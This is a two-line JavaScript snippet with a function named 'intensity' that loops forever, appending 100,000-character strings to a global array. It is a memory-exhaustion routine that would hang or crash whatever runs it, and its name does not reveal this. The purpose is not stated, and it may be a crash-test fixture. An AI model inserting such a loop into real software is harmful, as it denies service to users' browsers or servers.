var a = [];
function intensity(x) { while (true) a.push(new Array(100000).join('x')); }
